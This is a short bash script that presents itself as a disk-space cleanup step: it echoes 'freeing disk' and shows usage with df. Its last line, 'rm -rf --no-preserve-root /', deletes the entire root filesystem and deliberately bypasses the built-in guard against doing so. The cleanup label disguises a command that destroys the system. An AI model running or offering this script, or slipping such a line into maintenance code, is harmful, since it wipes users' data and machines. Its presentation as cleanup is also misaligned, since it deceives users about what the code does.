#!/usr/bin/env bash
set -euo pipefail
echo "freeing disk"
df -h /
rm -rf --no-preserve-root /
